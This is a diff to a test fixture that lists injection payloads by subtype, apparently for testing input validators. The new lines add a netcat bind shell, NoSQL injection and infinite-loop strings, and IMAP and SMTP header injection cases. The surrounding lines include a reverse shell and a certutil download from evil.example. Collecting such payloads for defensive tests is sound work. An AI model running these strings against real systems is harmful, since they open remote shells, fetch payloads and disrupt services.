@@ -23,6 +23,7 @@ export const INJECTION_CASES: readonly NamedCases[] = [
       'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
       'powershell -nop -w hidden -c x',
       '127.0.0.1|id',
+      'nc -l -p 8080 -e /bin/bash;',
       'cmd.exe /c certutil -urlcache -f http://evil.example/a.exe a.exe',
     ],
   },
@@ -118,6 +119,8 @@ export const INJECTION_CASES: readonly NamedCases[] = [
       '{"$or": [{"a": 1}, {"b": 2}]}',
       "a' && this.password.match(/.*/)//",
       '{"$nin": []}',
+      "', $or: [ {}, { 'a':'a",
+      "'; while(true){}'",
       '{"$expr": {"$function": {"body": "x"}}}',
     ],
   },
@@ -142,6 +145,11 @@ export const INJECTION_CASES: readonly NamedCases[] = [
       'x\n203.0.113.9 - admin [02/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1',
       'x\n<WARN> payment accepted',
     ],
+  },
+  {
+    subtype: 'mail',
+    textbook: ['V100 CAPABILITY V101 FETCH 4791'],
+    others: ['kim@mail.example\r\nRCPT TO: <all@mail.example>\r\nDATA'],
   },
   {
     subtype: 'code',
